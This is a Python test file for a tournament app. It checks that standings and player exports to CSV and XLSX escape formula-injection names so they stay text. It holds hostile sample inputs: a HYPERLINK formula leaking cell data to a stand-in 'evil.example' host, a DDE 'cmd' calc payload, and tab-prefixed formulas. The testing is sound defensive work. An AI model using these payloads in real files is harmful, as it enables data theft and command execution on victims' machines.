"""No export a spreadsheet opens can run a formula: a player called
`=HYPERLINK(...)` is text in the standings CSV and XLSX, in the players CSV and in every sheet
`write_xlsx` writes (the EMA file's XLSX too). Checked per format, read back as a spreadsheet
program reads it."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile

import pytest
from openpyxl import load_workbook

from tournament.cli import main
from tournament.export.gather import gather_standings
from tournament.export.spreadsheets import standings_csv, write_standings_xlsx, write_xlsx
from tournament.players.file_reading import read_csv_text
from tournament.players.roster import PlayerDraft
from tournament.service import Tournament

LINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
NAMES = [LINK, "+1+1 Plus", "-2+3 Minus", "@SUM(A1) At"]


@pytest.fixture
def hostile(tmp_path):
    """A played round whose players are named like formulas; a club with a tab in front, as
    only a file made by other means can hold."""
    path = tmp_path / "cup.rtdb"
    t = Tournament.create(path, name="=cmd|' /C calc'!A0", rounds=1,
                          players=[PlayerDraft(n, club="=1+2") for n in NAMES])
    seat_in_order_by_name(t)
    t.tables.record_totals(1, 1, [40000, 30000, 30000, 20000])
    t.close()
    conn = sqlite3.connect(path)
    conn.execute("UPDATE players SET club = ? WHERE id = 2", ("\t=1+1",))
    conn.commit()
    conn.close()
    return path


def seat_in_order_by_name(t: Tournament) -> None:
    t.rounds.set_seating(1, [NAMES])


def _is_formula(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_standings_csv_cells_are_text(hostile):
    conn = sqlite3.connect(hostile)
    conn.execute("UPDATE players SET country = ? WHERE id = 3", ("\r=2+2",))
    conn.commit()
    conn.close()
    with Tournament.open(hostile) as t:
        text = standings_csv(gather_standings(t, 1))
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    players = [row[2] for row in rows[1:]]
    assert sorted(players) == sorted("'" + n for n in NAMES)
    for cell in cells:
        if _is_formula(cell):
            # only numbers may start with "-": a negative total stays a number
            float(cell)
    assert "'\t=1+1" in cells and "'\r=2+2" in cells and "'=1+2" in cells


def test_standings_xlsx_cells_are_strings_never_formulas(hostile, tmp_path):
    with Tournament.open(hostile) as t:
        path = write_standings_xlsx(gather_standings(t, 1), tmp_path / "s.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    ws = load_workbook(path).active
    players = [ws.cell(r, 3) for r in range(2, 6)]
    assert sorted(c.value for c in players) == sorted(NAMES)
    assert all(c.data_type == "s" and c.quotePrefix for c in players)
    totals = [ws.cell(r, ws.max_column).value for r in range(2, 6)]
    assert all(isinstance(v, int | float) for v in totals) and min(totals) < 0


def test_write_xlsx_protects_every_text_cell(tmp_path):
    # write_xlsx is shared by every sheet the app writes (the EMA results file's too)
    path = write_xlsx(tmp_path / "x.xlsx", "Results", ["=header", "n"],
                      [[LINK, -3.5], ["@x", 2], ["plain", -1]])
    ws = load_workbook(path).active
    assert [ws.cell(r, 1).data_type for r in (1, 2, 3)] == ["s", "s", "s"]
    assert ws.cell(2, 1).value == LINK and ws.cell(2, 2).value == -3.5


def test_players_csv_cells_are_text_and_read_back_unchanged(hostile, capsys):
    with Tournament.open(hostile) as t:
        text = t.players.export_csv()
        registered = sorted(p.name for p in t.players.all())
    rows = list(csv.reader(io.StringIO(text)))
    assert not any(_is_formula(c) for row in rows for c in row)
    assert main(["players", str(hostile)]) == 0
    assert capsys.readouterr().out == text
    # the players file reads back with the names as they are
    again = read_csv_text(text.replace("\t", " "))
    assert sorted(p.name for p in again.players) == registered


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_command_writes_no_formula(hostile, tmp_path, capsys, fmt):
    out = tmp_path / f"standings.{fmt}"
    assert main(["export", str(hostile), "--format", fmt, "--out", str(out)]) == 0
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(out.read_text("utf-8-sig"))) for c in row]
        assert "'" + LINK in cells and LINK not in cells
    else:
        with zipfile.ZipFile(out) as z:
            assert not any("<f>" in z.read(n).decode() for n in z.namelist()
                           if n.startswith("xl/worksheets/"))
